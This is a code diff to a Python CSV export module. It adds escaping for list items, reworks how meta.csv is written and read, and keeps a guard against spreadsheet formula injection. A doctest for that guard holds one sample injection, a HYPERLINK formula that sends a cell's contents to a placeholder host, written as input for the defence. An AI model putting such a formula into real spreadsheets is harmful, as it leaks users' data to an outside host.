@@ -1,4 +1,4 @@
-"""CSV: ``<table>.csv`` and ``meta.csv``, UTF-8 with a header row, ready for a spreadsheet.
+r"""CSV: ``<table>.csv`` and ``meta.csv``, UTF-8 with a header row, ready for a spreadsheet.
 
 No cell is a formula. A spreadsheet reads a cell that begins with ``=``,
 ``+``, ``-``, ``@``, a tab or a carriage return as a formula (OWASP, "CSV
@@ -16,7 +16,10 @@ database text value.
 
 Every known value is quoted, so an unknown value is the only unquoted
 empty cell: ``,,`` is unknown (null), ``,"",`` an empty list or an empty
-string. Lists are joined with ``;``, booleans ``true``/``false``, dates
+string. Lists are joined with ``;``; an item's own ``;`` is written ``\;``
+and its ``\`` as ``\\`` (a title "Foreign Minister; Chair" in a list cell is
+``Foreign Minister\; Chair``), which :func:`from_text`, :func:`read` and
+:func:`pakru.export.read_csv` undo. Booleans are ``true``/``false``, dates
 ``YYYY-MM-DD``. Codes stay text (``"046"``) — but most CSV readers guess
 types whatever the quotes say, so read the files with
 :func:`pakru.export.read_csv`, or give the dtype yourself:
@@ -26,13 +29,19 @@ types whatever the quotes say, so read the files with
 - Stata: ``import delimited acts.csv, stringcols(_all) clear`` (then ``destring`` numbers)
 """
 
-import csv
-import io
+import datetime as dt
 from collections.abc import Mapping
 from pathlib import Path
 
-from pakru.atomic import write_text
-from pakru.export.tables import Column, Row, Table, Value, from_text, to_text
+from pakru.export import model
+from pakru.export.model import Column, Row, Table, Value
+from pakru.tools.atomic import write_text
+
+LIST_SEPARATOR = ";"
+"""Between the items of a list cell."""
+
+LIST_ESCAPE = "\\"
+"""Put before a ``;`` or a ``\\`` inside a list item, so that it is not read as a separator."""
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 """First characters that make a spreadsheet read a cell as a formula (OWASP)."""
@@ -47,7 +56,7 @@ def is_text(column: Column) -> bool:
 
 
 def protect(text: str) -> str:
-    """A text cell as written: one ``'`` in front when it begins with a formula character
+    r"""A text cell as written: one ``'`` in front when it begins with a formula character
     or with ``'``, so no spreadsheet reads it as a formula and :func:`unprotect` undoes it.
 
     >>> protect('=HYPERLINK("http://x"&A1,"click")')
@@ -61,6 +70,63 @@ def protect(text: str) -> str:
 def unprotect(text: str) -> str:
     """The text a cell written by :func:`protect` stands for."""
     return text.removeprefix(ESCAPE)
+
+
+def to_text(column: Column, value: Value) -> str:
+    r"""A value as CSV text: '' for null, list items joined with ``;`` (an item's ``;`` and
+    ``\`` escaped with ``\``), booleans true/false, dates YYYY-MM-DD.
+
+    >>> to_text(Column("titles", "list", ""), ("Foreign Minister; Chair", "a\\b", "c"))
+    'Foreign Minister\\; Chair;a\\\\b;c'
+    """
+    if value is None:
+        return ""
+    if isinstance(value, tuple):
+        escaped = (str(v).replace(LIST_ESCAPE, LIST_ESCAPE * 2) for v in value)
+        return LIST_SEPARATOR.join(
+            v.replace(LIST_SEPARATOR, LIST_ESCAPE + LIST_SEPARATOR) for v in escaped
+        )
+    if isinstance(value, bool):
+        return "true" if value else "false"
+    if isinstance(value, dt.date):
+        return value.isoformat()
+    return str(value)
+
+
+def from_text(column: Column, text: str) -> Value:
+    r"""Inverse of :func:`to_text`.
+
+    >>> from_text(Column("titles", "list", ""), r"Foreign Minister\; Chair;a\\b;c")
+    ('Foreign Minister; Chair', 'a\\b', 'c')
+    """
+    if column.type == "list":
+        items = _items(text) if text else []
+        return tuple(int(i) if column.item == "integer" else i for i in items)
+    if text == "":
+        return None
+    if column.type in ("integer", "number"):
+        return int(text) if column.type == "integer" else float(text)
+    if column.type == "boolean":
+        return text == "true"
+    if column.type == "date":
+        return dt.date.fromisoformat(text)
+    return text
+
+
+def _items(text: str) -> list[str]:
+    """The items of a list cell: split at each ``;`` not escaped, the escapes undone."""
+    items: list[str] = []
+    item: list[str] = []
+    chars = iter(text)
+    for char in chars:
+        if char == LIST_ESCAPE:
+            item.append(next(chars, ""))
+        elif char == LIST_SEPARATOR:
+            items.append("".join(item))
+            item = []
+        else:
+            item.append(char)
+    return [*items, "".join(item)]
 
 
 def cell_value(column: Column, text: str) -> Value:
@@ -118,23 +184,13 @@ def parse(text: str) -> list[list[str | None]]:
     return rows
 
 
-def write_meta(meta: Mapping[str, str], path: Path) -> Path:
-    """The meta as a two-column CSV file (key, value)."""
-    f = io.StringIO(newline="")
-    writer = csv.writer(f)
-    writer.writerow(("key", "value"))
-    writer.writerows((protect(k), protect(v)) for k, v in meta.items())
-    return write_text(path, f.getvalue())
-
-
 def write(
     tables: Mapping[str, Table], meta: Mapping[str, str], records: list[object], out: Path
 ) -> list[Path]:
     """Write every table and the meta (records are in the tables; see the JSON export)."""
     del records
-    written = [write_table(t, out / f"{name}.csv") for name, t in tables.items()]
-    written.append(write_meta(meta, out / "meta.csv"))
-    return written
+    named = (*tables.items(), ("meta", model.meta_table(meta)))
+    return [write_table(table, out / f"{name}.csv") for name, table in named]
 
 
 def _row(table: Table, cells: list[str | None]) -> Row:
@@ -145,11 +201,10 @@ def _row(table: Table, cells: list[str | None]) -> Row:
 def read(out: Path, like: Mapping[str, Table]) -> tuple[dict[str, list[Row]], dict[str, str]]:
     """Read the tables named in ``like`` and the meta back."""
     tables = {}
-    for name, table in like.items():
+    for name, table in {**like, "meta": model.meta_table({})}.items():
         header, *rows = parse((out / f"{name}.csv").read_bytes().decode("utf-8"))
         if tuple(header) != table.column_names:
             raise ValueError(f"{name}.csv: unexpected header {header}")
         tables[name] = [_row(table, r) for r in rows]
-    with (out / "meta.csv").open(encoding="utf-8", newline="") as f:
-        meta = {unprotect(item["key"]): unprotect(item["value"]) for item in csv.DictReader(f)}
+    meta = {str(row["key"]): str(row["value"]) for row in tables.pop("meta")}
     return tables, meta
